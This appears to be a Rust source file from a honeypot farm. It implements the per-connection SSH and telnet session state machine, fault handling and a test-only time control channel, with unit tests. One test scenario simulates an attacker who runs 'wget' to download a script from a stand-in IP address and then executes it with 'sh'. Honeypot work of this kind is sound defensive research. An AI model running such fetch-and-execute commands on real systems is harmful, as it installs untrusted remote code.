//! Per-connection protocol state machine.
//!
//! [`SessionConn`] is the pure (socket-free) core of the live farm: the
//! reactor feeds it raw bytes and it produces reply bytes plus, exactly once,
//! a finished [`SessionRecord`]. Both wire protocols route every semantic
//! event — banner, credential offer, command line, idle gap — through the
//! same [`SessionDriver`] the simulator and the scenario replayer use, which
//! is what makes the wire path bit-comparable to the offline path.
//!
//! # Timing modes
//!
//! * [`Timing::Wall`] — production shape. The driver's simulated clock is
//!   topped up from wall time before every event, so think times and idle
//!   timeouts reflect real elapsed seconds (whole-second resolution, like
//!   the old Tokio servers).
//! * [`Timing::Virtual`] — deterministic shape for conformance tests and
//!   load generation. Wall time never touches the driver; instead the
//!   client scripts time explicitly through the in-band `@hfs` control
//!   channel below. Two runs of the same script produce identical records.
//!
//! # The `@hfs` control channel (Virtual timing only)
//!
//! A line starting with `@hfs ` is intercepted before protocol dispatch and
//! never reaches the login/shell machinery:
//!
//! ```text
//! @hfs start <day> <secs>     session start instant (before first event)
//! @hfs client <ip> <port>     recorded client address (before first event)
//! @hfs fetcher synthetic|null shell fetcher choice (before first event)
//! @hfs think <n>              typing delay for subsequent login/cmd lines
//! @hfs idle <n>               n seconds of client silence (may time out)
//! @hfs transfer <n>           a completed external transfer of n seconds
//! ```
//!
//! Malformed control lines are ignored, among them a `start` whose `<secs>`
//! is not below 86400 and an `idle`, `think` or `transfer` whose `<n>` is
//! not a `u32`. Under [`Timing::Wall`] the prefix is not special: such
//! lines flow through the ordinary protocol paths, exactly like any other
//! attacker input.
//!
//! # Fault policy
//!
//! Documented, test-enforced behaviour for hostile input — the connection is
//! closed and the session still yields a (classifiable) record:
//!
//! * **Oversized line** — more than [`MAX_LINE`] bytes without a terminator:
//!   counted (`wire.oversized_lines`), session closed as a client close.
//! * **Telnet option storm** — more than [`NEGOTIATION_BUDGET`] negotiation
//!   verbs: counted (`wire.telnet_storms`), session closed as a client
//!   close.
//! * **Abrupt disconnect / read error** — the driver records a client close
//!   in whatever phase it reached; a connection that never spoke at all
//!   still produces the paper's NO_CRED scan shape.
//!
//! A partial (unterminated) line pending at EOF is discarded, matching the
//! old Tokio servers' line-oriented readers.

use std::sync::Arc;

use hf_geo::Ip4;
use hf_honeypot::{AuthResult, HoneypotConfig, SessionDriver, SessionRecord};
use hf_proto::creds::Credentials;
use hf_proto::ssh_ident::{server_ident, SshIdent};
use hf_proto::telnet::{
    self, encode_data, encode_negotiate, refusal_for, LineAssembler, TelnetDecoder, TelnetEvent,
};
use hf_proto::Protocol;
use hf_simclock::{SimInstant, SECS_PER_DAY};
use hf_testkit::scenario::FetcherKind;

use crate::stats::FarmStats;

/// Longest accepted line (bytes, terminator excluded). Anything longer is
/// the oversized-line fault.
pub const MAX_LINE: usize = 4096;

/// Telnet option-negotiation budget per connection. Anything chattier is the
/// option-storm fault.
pub const NEGOTIATION_BUDGET: u32 = 128;

/// How a connection maps real time onto the session clock.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Timing {
    /// Wall-clock seconds drive think times and timeouts (production).
    Wall,
    /// Time passes only via `@hfs` control lines (deterministic tests).
    Virtual,
}

/// Everything a [`SessionConn`] needs at accept time.
pub struct ConnParams {
    /// Virtual node index the listener belongs to.
    pub honeypot: u16,
    /// Which wire protocol this listener speaks.
    pub protocol: Protocol,
    /// Honeypot policy + system profile for this node, shared by every
    /// connection the node accepts.
    pub config: Arc<HoneypotConfig>,
    /// Wall or virtual timing (see module docs).
    pub timing: Timing,
    /// Farm-wide counters.
    pub stats: FarmStats,
    /// Real peer address (used unless overridden via `@hfs client`).
    pub peer_ip: Ip4,
    /// Real peer port.
    pub peer_port: u16,
}

enum ProtoState {
    Ssh {
        ident_seen: bool,
        username: Option<String>,
    },
    Telnet {
        decoder: TelnetDecoder,
        phase: TelnetPhase,
        negotiations: u32,
    },
}

enum TelnetPhase {
    Username,
    Password { username: String },
    Shell,
}

/// One accepted connection's session logic, free of any socket types.
pub struct SessionConn {
    honeypot: u16,
    protocol: Protocol,
    config: Arc<HoneypotConfig>,
    timing: Timing,
    stats: FarmStats,
    peer_ip: Ip4,
    peer_port: u16,
    started: std::time::Instant,
    think: u32,
    pending_start: Option<SimInstant>,
    pending_client: Option<(Ip4, u16)>,
    pending_fetcher: FetcherKind,
    driver: Option<SessionDriver>,
    driver_start: SimInstant,
    lines: LineAssembler,
    proto: ProtoState,
    finished: bool,
}

impl SessionConn {
    /// Create the connection state and the greeting bytes the server sends
    /// immediately after accept (SSH ident line / telnet negotiation+login
    /// banner).
    pub fn new(params: ConnParams) -> (SessionConn, Vec<u8>) {
        let hostname = &params.config.profile.hostname;
        let greeting = match params.protocol {
            Protocol::Ssh => server_ident().wire_bytes().to_vec(),
            Protocol::Telnet => {
                let mut out = Vec::new();
                encode_negotiate(telnet::WILL, telnet::option::ECHO, &mut out);
                encode_negotiate(telnet::WILL, telnet::option::SGA, &mut out);
                encode_data(format!("\r\n{hostname} login: ").as_bytes(), &mut out);
                out
            }
        };
        let proto = match params.protocol {
            Protocol::Ssh => ProtoState::Ssh {
                ident_seen: false,
                username: None,
            },
            Protocol::Telnet => ProtoState::Telnet {
                decoder: TelnetDecoder::new(),
                phase: TelnetPhase::Username,
                negotiations: 0,
            },
        };
        let mut conn = SessionConn {
            honeypot: params.honeypot,
            protocol: params.protocol,
            config: params.config,
            timing: params.timing,
            stats: params.stats,
            peer_ip: params.peer_ip,
            peer_port: params.peer_port,
            started: std::time::Instant::now(),
            think: 1,
            pending_start: None,
            pending_client: None,
            pending_fetcher: FetcherKind::Synthetic,
            driver: None,
            driver_start: SimInstant::EPOCH,
            lines: LineAssembler::new(),
            proto,
            finished: false,
        };
        if conn.timing == Timing::Wall {
            // Production timing observes the connection from accept onward;
            // virtual timing defers so `@hfs start`/`client` can still apply.
            conn.ensure_driver();
        }
        (conn, greeting)
    }

    /// Is the client authenticated right now?
    pub fn authenticated(&self) -> bool {
        self.driver.as_ref().is_some_and(|d| d.authenticated())
    }

    /// Has the session produced its record?
    pub fn finished(&self) -> bool {
        self.finished
    }

    /// Seconds of client silence the reactor should allow before calling
    /// [`SessionConn::on_wall_timeout`]. Under wall timing this is the
    /// honeypot's own phase limit; under virtual timing it is only a
    /// slow-client guard (scripts express idle time via `@hfs idle`), so the
    /// farm supplies a uniform bound.
    pub fn read_deadline_secs(&self, virtual_guard_secs: u32) -> u32 {
        match self.timing {
            Timing::Wall => {
                if self.authenticated() {
                    self.config.idle_timeout_secs
                } else {
                    self.config.preauth_timeout_secs
                }
            }
            Timing::Virtual => virtual_guard_secs,
        }
    }

    fn ensure_driver(&mut self) -> &mut SessionDriver {
        if self.driver.is_none() {
            let start = self.pending_start.unwrap_or(SimInstant::EPOCH);
            let (ip, port) = self
                .pending_client
                .unwrap_or((self.peer_ip, self.peer_port));
            self.driver_start = start;
            self.driver = Some(SessionDriver::accept(
                Arc::clone(&self.config),
                self.honeypot,
                self.protocol,
                ip,
                port,
                start,
                self.pending_fetcher.build(),
            ));
        }
        self.driver.as_mut().expect("just created")
    }

    /// Whole wall seconds not yet reflected in the session clock.
    fn wall_lag_secs(&self) -> u32 {
        let wall = self.started.elapsed().as_secs();
        let sim = self
            .driver
            .as_ref()
            .map(|d| d.now().delta_secs(self.driver_start).max(0) as u64)
            .unwrap_or(0);
        wall.saturating_sub(sim) as u32
    }

    /// Top the session clock up to wall time (letting idle accrue).
    fn sync_clock(&mut self) {
        if self.timing != Timing::Wall {
            return;
        }
        let lag = self.wall_lag_secs();
        if lag > 0 {
            self.ensure_driver().advance(lag);
        }
    }

    /// Typing delay consumed by the next login/command.
    fn think_secs(&self) -> u32 {
        match self.timing {
            Timing::Wall => self.wall_lag_secs(),
            Timing::Virtual => self.think,
        }
    }

    fn finish(&mut self) -> SessionRecord {
        self.finished = true;
        let rec = match self.driver.take() {
            Some(d) => d.into_record(),
            // A connection that produced no driver yet (virtual timing, no
            // input): a pure connect-and-leave scan.
            None => {
                self.ensure_driver();
                self.driver.take().expect("just created").into_record()
            }
        };
        rec
    }

    /// Client bytes arrived. Reply bytes are appended to `out`; a returned
    /// record means the session just ended (the reactor should flush `out`
    /// and close once written).
    pub fn on_input(&mut self, data: &[u8], out: &mut Vec<u8>) -> Option<SessionRecord> {
        if self.finished {
            return None;
        }
        match self.protocol {
            Protocol::Ssh => self.on_ssh_input(data, out),
            Protocol::Telnet => self.on_telnet_input(data, out),
        }
    }

    /// The peer closed its end (or the read failed, already counted by the
    /// reactor). Always yields the record.
    pub fn on_eof(&mut self) -> SessionRecord {
        self.sync_clock();
        self.finish()
    }

    /// The reactor's read deadline expired. Mirrors the honeypot timeout in
    /// the session clock and yields the Timeout-ended record.
    pub fn on_wall_timeout(&mut self) -> SessionRecord {
        self.sync_clock();
        let limit = if self.authenticated() {
            self.config.idle_timeout_secs
        } else {
            self.config.preauth_timeout_secs
        };
        // `advance` clamps the overshoot, so +1 lands exactly on the limit.
        self.ensure_driver().advance(limit + 1);
        self.stats.on_wall_timeout();
        self.finish()
    }

    fn oversized(&mut self) -> Option<SessionRecord> {
        self.stats.on_oversized();
        self.sync_clock();
        Some(self.finish())
    }

    fn on_ssh_input(&mut self, data: &[u8], out: &mut Vec<u8>) -> Option<SessionRecord> {
        for line in self.lines.push(data) {
            if let Some(rec) = self.handle_line(line, out) {
                return Some(rec);
            }
        }
        if self.lines.pending().len() > MAX_LINE {
            return self.oversized();
        }
        None
    }

    fn on_telnet_input(&mut self, data: &[u8], out: &mut Vec<u8>) -> Option<SessionRecord> {
        let ProtoState::Telnet { decoder, .. } = &mut self.proto else {
            unreachable!("telnet input on ssh state");
        };
        let events = decoder.feed(data);
        let mut fault = false;
        let mut line_queue: Vec<String> = Vec::new();
        for ev in events {
            match ev {
                TelnetEvent::Negotiate { verb, opt } => {
                    let ProtoState::Telnet { negotiations, .. } = &mut self.proto else {
                        unreachable!()
                    };
                    *negotiations += 1;
                    if *negotiations > NEGOTIATION_BUDGET {
                        fault = true;
                        break;
                    }
                    if opt == telnet::option::ECHO || opt == telnet::option::SGA {
                        if verb == telnet::DO {
                            encode_negotiate(telnet::WILL, opt, out);
                        }
                    } else {
                        encode_negotiate(refusal_for(verb), opt, out);
                    }
                }
                TelnetEvent::Data(bytes) => line_queue.extend(self.lines.push(&bytes)),
                TelnetEvent::Subnegotiation { .. } | TelnetEvent::Command(_) => {}
            }
        }
        if fault {
            self.stats.on_telnet_storm();
            self.sync_clock();
            return Some(self.finish());
        }
        for line in line_queue {
            if let Some(rec) = self.handle_line(line, out) {
                return Some(rec);
            }
        }
        if self.lines.pending().len() > MAX_LINE {
            return self.oversized();
        }
        None
    }

    fn handle_line(&mut self, line: String, out: &mut Vec<u8>) -> Option<SessionRecord> {
        if self.finished {
            return None;
        }
        if self.timing == Timing::Virtual {
            if let Some(rest) = line.strip_prefix("@hfs ") {
                return self.handle_control(rest);
            }
        }
        match self.proto {
            ProtoState::Ssh { .. } => self.handle_ssh_line(line, out),
            ProtoState::Telnet { .. } => self.handle_telnet_line(line, out),
        }
    }

    /// One `@hfs` directive (prefix already stripped). Malformed directives
    /// are silently ignored — the control channel is for our own tooling,
    /// not attackers, and dropping a bad line is the least surprising
    /// failure mode for a deterministic test.
    fn handle_control(&mut self, rest: &str) -> Option<SessionRecord> {
        let (word, args) = match rest.split_once(char::is_whitespace) {
            Some((w, a)) => (w, a.trim()),
            None => (rest, ""),
        };
        match word {
            "start" if self.driver.is_none() => {
                if let Some((d, s)) = args.split_once(char::is_whitespace) {
                    if let (Ok(day), Ok(secs)) = (d.trim().parse(), s.trim().parse::<u32>()) {
                        // A second of day past the day's end is malformed.
                        if u64::from(secs) < SECS_PER_DAY {
                            self.pending_start = Some(SimInstant::from_day_and_secs(day, secs));
                        }
                    }
                }
            }
            "client" if self.driver.is_none() => {
                if let Some((ip, port)) = args.split_once(char::is_whitespace) {
                    if let (Some(ip), Ok(port)) =
                        (Ip4::parse(ip.trim()), port.trim().parse::<u16>())
                    {
                        self.pending_client = Some((ip, port));
                    }
                }
            }
            "fetcher" if self.driver.is_none() => {
                if let Some(kind) = FetcherKind::from_name(args) {
                    self.pending_fetcher = kind;
                }
            }
            "think" => {
                if let Ok(n) = args.parse() {
                    self.think = n;
                }
            }
            "idle" => {
                if let Ok(n) = args.parse::<u32>() {
                    if !self.ensure_driver().advance(n) {
                        return Some(self.finish());
                    }
                }
            }
            "transfer" => {
                if let Ok(n) = args.parse::<u32>() {
                    self.ensure_driver().external_transfer(n);
                }
            }
            _ => {}
        }
        None
    }

    fn handle_ssh_line(&mut self, line: String, out: &mut Vec<u8>) -> Option<SessionRecord> {
        let think = self.think_secs();
        if !self.authenticated() {
            // RFC 4253 §4.2: the first SSH- line is the client ident.
            let ident_seen = match &self.proto {
                ProtoState::Ssh { ident_seen, .. } => *ident_seen,
                ProtoState::Telnet { .. } => unreachable!("ssh line on telnet state"),
            };
            if !ident_seen && line.starts_with("SSH-") {
                if let ProtoState::Ssh { ident_seen, .. } = &mut self.proto {
                    *ident_seen = true;
                }
                if let Ok(ident) = SshIdent::parse(&line) {
                    let rendered = ident.render();
                    self.ensure_driver().client_banner(&rendered);
                }
                return None;
            }
            if let Some(u) = line.strip_prefix("USER ") {
                if let ProtoState::Ssh { username, .. } = &mut self.proto {
                    *username = Some(u.to_string());
                }
                return None;
            }
            if let Some(p) = line.strip_prefix("PASS ") {
                let user = match &mut self.proto {
                    ProtoState::Ssh { username, .. } => username.take().unwrap_or_default(),
                    ProtoState::Telnet { .. } => unreachable!(),
                };
                let creds = Credentials::new(&user, p);
                match self.ensure_driver().offer_credentials(creds, think) {
                    AuthResult::Accepted => {
                        self.stats.on_auth(true);
                        out.extend_from_slice(b"AUTH-OK\n");
                    }
                    AuthResult::Rejected => {
                        self.stats.on_auth(false);
                        out.extend_from_slice(b"AUTH-FAIL\n");
                    }
                    AuthResult::Disconnected => {
                        self.stats.on_auth(false);
                        out.extend_from_slice(b"AUTH-FAIL-CLOSE\n");
                        return Some(self.finish());
                    }
                }
                return None;
            }
            // Anything else pre-auth is ignored (matching SSH clients that
            // send KEX blobs we don't parse).
            return None;
        }
        if line == "EXIT" {
            self.sync_clock();
            self.ensure_driver().client_close();
            return Some(self.finish());
        }
        self.stats.on_command();
        if let Some(output) = self.ensure_driver().run_command(&line, think) {
            out.extend_from_slice(output.as_bytes());
            out.extend_from_slice(b"##\n");
        }
        if self.driver.as_ref().is_some_and(|d| d.finished()) {
            return Some(self.finish());
        }
        None
    }

    fn handle_telnet_line(&mut self, line: String, out: &mut Vec<u8>) -> Option<SessionRecord> {
        let think = self.think_secs();
        let config = Arc::clone(&self.config);
        let hostname = &config.profile.hostname;
        let current = match &mut self.proto {
            ProtoState::Telnet { phase, .. } => std::mem::replace(phase, TelnetPhase::Username),
            ProtoState::Ssh { .. } => unreachable!("telnet line on ssh state"),
        };
        let mut done = false;
        match current {
            TelnetPhase::Username => {
                encode_data(b"Password: ", out);
                self.set_telnet_phase(TelnetPhase::Password { username: line });
            }
            TelnetPhase::Password { username } => {
                let creds = Credentials::new(&username, &line);
                match self.ensure_driver().offer_credentials(creds, think) {
                    AuthResult::Accepted => {
                        self.stats.on_auth(true);
                        encode_data(
                            format!("\r\nWelcome to {hostname}\r\nroot@{hostname}:~# ").as_bytes(),
                            out,
                        );
                        self.set_telnet_phase(TelnetPhase::Shell);
                    }
                    AuthResult::Rejected => {
                        self.stats.on_auth(false);
                        encode_data(
                            format!("\r\nLogin incorrect\r\n{hostname} login: ").as_bytes(),
                            out,
                        );
                        self.set_telnet_phase(TelnetPhase::Username);
                    }
                    AuthResult::Disconnected => {
                        self.stats.on_auth(false);
                        encode_data(b"\r\nLogin incorrect\r\n", out);
                        done = true;
                    }
                }
            }
            TelnetPhase::Shell => {
                self.set_telnet_phase(TelnetPhase::Shell);
                self.stats.on_command();
                if let Some(output) = self.ensure_driver().run_command(&line, think) {
                    encode_data(output.replace('\n', "\r\n").as_bytes(), out);
                    if !self.driver.as_ref().is_some_and(|d| d.finished()) {
                        encode_data(format!("root@{hostname}:~# ").as_bytes(), out);
                    }
                }
                if self.driver.as_ref().is_some_and(|d| d.finished()) {
                    done = true;
                }
            }
        }
        if done {
            return Some(self.finish());
        }
        None
    }

    fn set_telnet_phase(&mut self, new: TelnetPhase) {
        if let ProtoState::Telnet { ref mut phase, .. } = self.proto {
            *phase = new;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hf_honeypot::EndReason;
    use hf_shell::SystemProfile;

    fn params(protocol: Protocol, timing: Timing) -> ConnParams {
        ConnParams {
            honeypot: 3,
            protocol,
            config: Arc::new(HoneypotConfig::paper(SystemProfile::default())),
            timing,
            stats: FarmStats::new(),
            peer_ip: Ip4::new(203, 0, 113, 9),
            peer_port: 50222,
        }
    }

    #[test]
    fn ssh_dialogue_full_intrusion() {
        let (mut c, greeting) = SessionConn::new(params(Protocol::Ssh, Timing::Virtual));
        assert!(greeting.starts_with(b"SSH-2.0-OpenSSH"));
        let mut out = Vec::new();
        assert!(c.on_input(b"SSH-2.0-Go\r\n", &mut out).is_none());
        assert!(c.on_input(b"USER root\nPASS 1234\n", &mut out).is_none());
        assert!(String::from_utf8_lossy(&out).contains("AUTH-OK"));
        out.clear();
        assert!(c.on_input(b"uname -a\n", &mut out).is_none());
        let text = String::from_utf8_lossy(&out).to_string();
        assert!(text.contains("Linux"), "{text}");
        assert!(text.ends_with("##\n"), "{text}");
        let rec = c.on_input(b"EXIT\n", &mut out).expect("record on EXIT");
        assert_eq!(rec.ssh_client_version.as_deref(), Some("SSH-2.0-Go"));
        assert!(rec.login_succeeded());
        assert_eq!(rec.commands.len(), 1);
        assert_eq!(rec.ended_by, EndReason::ClientClose);
    }

    #[test]
    fn ssh_auth_cap_closes_with_record() {
        let (mut c, _) = SessionConn::new(params(Protocol::Ssh, Timing::Virtual));
        let mut out = Vec::new();
        assert!(c
            .on_input(b"USER admin\nPASS admin\nUSER root\nPASS root\n", &mut out)
            .is_none());
        let rec = c
            .on_input(b"USER user\nPASS user\n", &mut out)
            .expect("third failure disconnects");
        assert_eq!(rec.ended_by, EndReason::AuthLimit);
        assert_eq!(rec.logins.len(), 3);
        assert!(String::from_utf8_lossy(&out).contains("AUTH-FAIL-CLOSE"));
    }

    #[test]
    fn ssh_banner_less_session_still_authenticates() {
        // Regression guard: the first line must not be swallowed as an ident
        // attempt when the client never sends one.
        let (mut c, _) = SessionConn::new(params(Protocol::Ssh, Timing::Virtual));
        let mut out = Vec::new();
        c.on_input(b"USER root\nPASS abc\n", &mut out);
        assert!(c.authenticated());
        let rec = c.on_eof();
        assert_eq!(rec.ssh_client_version, None);
        assert!(rec.login_succeeded());
    }

    #[test]
    fn telnet_dialogue_and_negotiation() {
        let (mut c, greeting) = SessionConn::new(params(Protocol::Telnet, Timing::Virtual));
        assert!(greeting
            .windows(3)
            .any(|w| w == [telnet::IAC, telnet::WILL, telnet::option::ECHO]));
        let mut out = Vec::new();
        // Refused option, then the login dialogue.
        c.on_input(&[telnet::IAC, telnet::DO, 34], &mut out);
        assert!(out.windows(3).any(|w| w == [telnet::IAC, telnet::WONT, 34]));
        out.clear();
        c.on_input(b"root\r\n", &mut out);
        assert!(String::from_utf8_lossy(&out).contains("Password: "));
        out.clear();
        c.on_input(b"hunter2\r\n", &mut out);
        assert!(String::from_utf8_lossy(&out).contains("Welcome to"));
        out.clear();
        c.on_input(b"uname -a\r\n", &mut out);
        assert!(String::from_utf8_lossy(&out).contains("Linux"));
        let rec = c.on_eof();
        assert!(rec.login_succeeded());
        assert_eq!(rec.commands.len(), 1);
    }

    #[test]
    fn control_channel_scripts_time_and_identity() {
        let (mut c, _) = SessionConn::new(params(Protocol::Ssh, Timing::Virtual));
        let mut out = Vec::new();
        c.on_input(b"@hfs start 5 1000\n@hfs client 10.1.2.3 41000\n", &mut out);
        c.on_input(b"@hfs think 4\nUSER root\nPASS pw\n", &mut out);
        c.on_input(b"@hfs idle 30\n@hfs transfer 200\n", &mut out);
        let rec = c.on_eof();
        assert_eq!(rec.start, SimInstant::from_day_and_secs(5, 1000));
        assert_eq!(rec.client_ip, Ip4::new(10, 1, 2, 3));
        assert_eq!(rec.client_port, 41000);
        // think 4 + idle 30 + transfer 200
        assert_eq!(rec.duration_secs, 234);
    }

    #[test]
    fn control_idle_can_time_out() {
        let (mut c, _) = SessionConn::new(params(Protocol::Ssh, Timing::Virtual));
        let mut out = Vec::new();
        let rec = c
            .on_input(b"@hfs idle 61\n", &mut out)
            .expect("preauth timeout");
        assert_eq!(rec.ended_by, EndReason::Timeout);
        assert_eq!(rec.duration_secs, 60, "overshoot clamped to the limit");
    }

    #[test]
    fn control_start_past_the_end_of_the_day_is_ignored() {
        let (mut c, _) = SessionConn::new(params(Protocol::Ssh, Timing::Virtual));
        let mut out = Vec::new();
        c.on_input(b"@hfs start 5 86400\n@hfs start 5 86399\n", &mut out);
        c.on_input(b"@hfs start 6 4294967295\n", &mut out);
        let rec = c.on_eof();
        assert_eq!(rec.start, SimInstant::from_day_and_secs(5, 86_399));
    }

    #[test]
    fn wall_timing_passes_hfs_lines_to_the_protocol() {
        let (mut c, _) = SessionConn::new(params(Protocol::Ssh, Timing::Wall));
        let mut out = Vec::new();
        c.on_input(b"@hfs idle 61\n", &mut out);
        let rec = c.on_eof();
        // Ignored as pre-auth noise: no timeout, no logins.
        assert_eq!(rec.ended_by, EndReason::ClientClose);
        assert!(rec.logins.is_empty());
    }

    #[test]
    fn oversized_line_closes_with_record() {
        let p = params(Protocol::Ssh, Timing::Virtual);
        let stats = p.stats.clone();
        let (mut c, _) = SessionConn::new(p);
        let mut out = Vec::new();
        let rec = c
            .on_input(&vec![b'a'; MAX_LINE + 1], &mut out)
            .expect("oversized fault");
        assert_eq!(rec.ended_by, EndReason::ClientClose);
        assert_eq!(stats.oversized_lines(), 1);
    }

    #[test]
    fn telnet_option_storm_closes_with_record() {
        let p = params(Protocol::Telnet, Timing::Virtual);
        let stats = p.stats.clone();
        let (mut c, _) = SessionConn::new(p);
        let mut out = Vec::new();
        let mut storm = Vec::new();
        for _ in 0..(NEGOTIATION_BUDGET + 1) {
            storm.extend_from_slice(&[telnet::IAC, telnet::DO, 34]);
        }
        let rec = c.on_input(&storm, &mut out).expect("storm fault");
        assert_eq!(rec.ended_by, EndReason::ClientClose);
        assert_eq!(stats.telnet_storms(), 1);
    }

    #[test]
    fn pure_scan_yields_no_cred_record() {
        let (mut c, _) = SessionConn::new(params(Protocol::Ssh, Timing::Virtual));
        let rec = c.on_eof();
        assert!(rec.logins.is_empty());
        assert!(rec.commands.is_empty());
        assert_eq!(rec.ended_by, EndReason::ClientClose);
    }

    #[test]
    fn wire_record_matches_simulator_replay() {
        // The conn, fed a wire script and its node's own config, must
        // reproduce Scenario::replay()'s record bit for bit — the per-conn
        // version of the conformance suite.
        let sc = hf_testkit::Scenario::parse(
            "name unit\n\
             honeypot 5\n\
             banner SSH-2.0-Go\n\
             think 2\n\
             login root 1234\n\
             cmd cd /tmp && wget http://198.51.100.1/x.sh\n\
             transfer 200\n\
             cmd sh x.sh\n\
             close\n",
        )
        .unwrap();
        let expected = sc.replay();
        let (mut c, _) = SessionConn::new(ConnParams {
            honeypot: sc.honeypot,
            protocol: sc.protocol,
            config: Arc::new(HoneypotConfig::paper(SystemProfile::for_node(
                sc.honeypot as u32,
            ))),
            timing: Timing::Virtual,
            stats: FarmStats::new(),
            peer_ip: Ip4::new(127, 0, 0, 1),
            peer_port: 9,
        });
        let script = crate::script::wire_script(&sc);
        let mut out = Vec::new();
        let rec = match c.on_input(script.as_bytes(), &mut out) {
            Some(rec) => rec,
            None => c.on_eof(),
        };
        assert_eq!(rec, expected);
    }
}
